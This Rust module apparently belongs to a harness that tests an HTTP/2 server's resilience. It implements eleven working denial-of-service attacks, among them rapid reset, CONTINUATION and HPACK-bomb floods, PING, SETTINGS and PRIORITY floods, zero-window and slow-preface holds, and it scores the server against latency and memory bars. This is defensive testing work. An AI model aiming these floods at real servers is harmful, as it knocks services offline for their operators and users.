//! The attackers of HTTP/2: connections that are cut for what they send, and connections that are held.
//!
//! What each attack sends is that of the tests of attacks frame by frame, which say how its connections end. Invariant:
//! a connection sends nothing that depends on what it is sent.

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};

use crate::attacks::{Attack, SLOW, at_rate, byte_by_byte, connect};
use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE,
    block, frame, get,
};
use crate::others::Others;

/// The most that others' p99 may grow, as a factor, and the most KiB that a connection may take.
const BARS: (f64, f64) = (1.3, 2_048.0);
/// Connections of a flood at a time.
const FLOODING: usize = 4;
/// Connections that are held.
const HELD: usize = 20;
/// Streams of a connection that is held: as many as it may have.
const STREAMS: u32 = 100;
/// Frames of a flood: above all that is allowed at once.
const FRAMES: u32 = 12_000;
/// Streams of a flood of them, and frames of SETTINGS, each of which counts for ten.
const DEARER: u32 = 1_500;

/// CANCEL.
const CODE: [u8; 4] = [0, 0, 0, 8];
const INITIAL_WINDOW_SIZE: [u8; 2] = [0, 4];

/// All of them.
pub static ATTACKS: [Attack; 11] = [
    flood("h2-rapid-reset", |to| floods(to, streams(|stream| [request(stream), reset(stream)].concat()))),
    flood("h2-made-to-reset", |to| floods(to, streams(|stream| [request(stream), too_large(stream)].concat()))),
    flood("h2-continuation", |to| floods(to, head_without_end())),
    flood("h2-hpack-bomb", |to| floods(to, bomb())),
    flood("h2-ping", |to| floods(to, frame(PING, 0, 0, &[7; 8]).repeat(FRAMES as usize))),
    flood("h2-settings", |to| floods(to, frame(SETTINGS, 0, 0, &[]).repeat(DEARER as usize))),
    flood("h2-priority", |to| floods(to, priorities())),
    flood("h2-empty-data", |to| floods(to, empty_data())),
    hold("h2-zero-window", HELD, |to| held(to, &[INITIAL_WINDOW_SIZE, [0; 2], [0; 2]].concat(), pages())),
    hold("h2-endless", HELD, |to| held(to, &[], uploads())),
    hold("h2-slow-preface", SLOW, |to| byte_by_byte(to, PREFACE)),
];

const fn flood(name: &'static str, run: fn(SocketAddr) -> !) -> Attack {
    hold(name, FLOODING, run)
}

const fn hold(name: &'static str, connections: usize, run: fn(SocketAddr) -> !) -> Attack {
    let (p99_bar, growth_bar) = BARS;
    Attack { name, listener: "plain", others: Others::Kept, connections, p99_bar, growth_bar, run }
}

/// What a client begins with.
fn preface(settings: &[u8]) -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, settings)].concat()
}

/// Sends a flood over a few connections, fifty times a second, and reads each to its end.
fn floods(to: SocketAddr, flood: Vec<u8>) -> ! {
    let (bytes, mut scrap) = ([preface(&[]), flood].concat(), vec![0; 64 << 10]);
    at_rate(50, || {
        let mut open = Vec::with_capacity(FLOODING);
        for _ in 0..FLOODING {
            let mut stream = connect(to)?;
            // A connection that is cut meanwhile takes no more.
            let _ = stream.write_all(&bytes);
            open.push(stream);
        }
        for mut stream in open {
            while stream.read(&mut scrap).is_ok_and(|read| read > 0) {}
        }
        Ok(())
    })
}

/// Holds connections that send so much once, reads what comes, and opens another one where one has ended.
fn held(to: SocketAddr, settings: &[u8], then: Vec<u8>) -> ! {
    let (bytes, mut scrap) = ([preface(settings), then].concat(), vec![0; 64 << 10]);
    let mut goes_on = move |stream: &mut TcpStream| loop {
        match stream.read(&mut scrap) {
            Ok(0) => return false,
            Ok(_) => {}
            Err(error) => return error.kind() == ErrorKind::WouldBlock,
        }
    };
    let mut held: Vec<TcpStream> = Vec::new();
    at_rate(50, || {
        held.retain_mut(&mut goes_on);
        if held.len() < HELD {
            let mut stream = connect(to)?;
            stream.write_all(&bytes)?;
            stream.set_nonblocking(true)?;
            held.push(stream);
        }
        Ok(())
    })
}

/// So much for each of many streams.
fn streams(of: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    (0..DEARER).flat_map(|at| of(2 * at + 1)).collect()
}

fn request(stream: u32) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | END_STREAM, stream, &block(&get("/")))
}

fn reset(stream: u32) -> Vec<u8> {
    frame(RST_STREAM, 0, stream, &CODE)
}

/// Makes the window of a stream greater than 2^31 - 1, for which the server resets it.
fn too_large(stream: u32) -> Vec<u8> {
    frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes())
}

fn head_without_end() -> Vec<u8> {
    let field = block(&[("x-a", "bcdefghijklmnopqrstuvwxyz")]);
    [frame(HEADERS, END_STREAM, 1, &block(&get("/"))), frame(CONTINUATION, 0, 1, &field).repeat(3_000)].concat()
}

/// A field of 4,000 bytes for the table of HPACK, and heads in which each byte is another copy of it.
fn bomb() -> Vec<u8> {
    let mut first = block(&get("/"));
    // A literal with indexing: its name, and the length of its value.
    first.extend([0x40, 3, b'x', b'-', b'a', 127, 0xa1, 0x1e]);
    first.extend([b'v'; 4_000]);
    let copies = [block(&get("/")), vec![0xbe; 16_000]].concat();
    let head = |stream: u32, block: &[u8]| frame(HEADERS, END_HEADERS | END_STREAM, stream, block);
    (0..10).fold(head(1, &first), |bytes, at| [bytes, head(2 * at + 3, &copies)].concat())
}

fn priorities() -> Vec<u8> {
    (0..FRAMES).flat_map(|at| frame(PRIORITY, 0, 2 * at + 1, &[0, 0, 0, 0, 15])).collect()
}

/// The head of a request with a body that its backend waits for.
fn upload(stream: u32) -> Vec<u8> {
    let fields = [&get("/")[1..], &[(":method", "POST")]].concat();
    frame(HEADERS, END_HEADERS, stream, &block(&fields))
}

fn empty_data() -> Vec<u8> {
    [upload(1), frame(DATA, 0, 1, &[]).repeat(FRAMES as usize)].concat()
}

/// Requests for large responses.
fn pages() -> Vec<u8> {
    let page = |at| frame(HEADERS, END_HEADERS | END_STREAM, 2 * at + 1, &block(&get("/large")));
    (0..STREAMS).flat_map(page).collect()
}

/// Bodies of which one byte comes.
fn uploads() -> Vec<u8> {
    (0..STREAMS).flat_map(|at| [upload(2 * at + 1), frame(DATA, 0, 2 * at + 1, b"x")].concat()).collect()
}
